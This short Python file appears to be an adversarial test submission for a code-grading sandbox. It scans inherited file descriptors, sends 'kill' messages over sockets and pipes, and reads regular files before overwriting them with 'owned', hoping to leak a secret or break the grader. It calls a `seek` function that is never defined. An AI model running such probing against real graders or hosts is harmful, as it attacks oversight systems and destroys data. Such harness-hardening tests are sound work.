# tries: to find and use what connects its kernel with whoever made it: sockets, pipes, memory files, events
# success: the secret comes out, or the grader breaks
# expect: wrong_answer, runtime_error, time_limit
# control: none, there is no secret behind any
import array, fcntl, os, socket, stat, struct
found = []
for held in range(0, 1024):
    try:
        state = os.fstat(held)
    except OSError:
        continue
    try:
        name = os.readlink(f"/proc/self/fd/{held}")
    except OSError:
        name = "?"
    found.append((held, name, stat.S_IFMT(state.st_mode)))
    if held < 3:
        continue
    try:
        if stat.S_ISSOCK(state.st_mode):
            one = socket.socket(fileno=os.dup(held))
            one.settimeout(0.05)
            if one.getsockname() or one.type != socket.SOCK_STREAM:
                continue
            for text in (b"kill\n", b'{"take": {}}\n', b"signal 9\n", struct.pack("<I", 4) + b"kill"):
                one.sendmsg([text], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [held]))])
            found.append(one.recv(1000))
        elif stat.S_ISFIFO(state.st_mode):
            fcntl.fcntl(held, fcntl.F_SETFL, os.O_NONBLOCK)
            os.write(held, b"kill\n")
        elif stat.S_ISREG(state.st_mode):
            found.append(os.pread(held, 1 << 20, 0))
            os.pwrite(held, b"owned", 0)
    except OSError as error:
        found.append(str(error))
def answer(clue):
    return seek(repr(found)) or repr(found)[:1500]
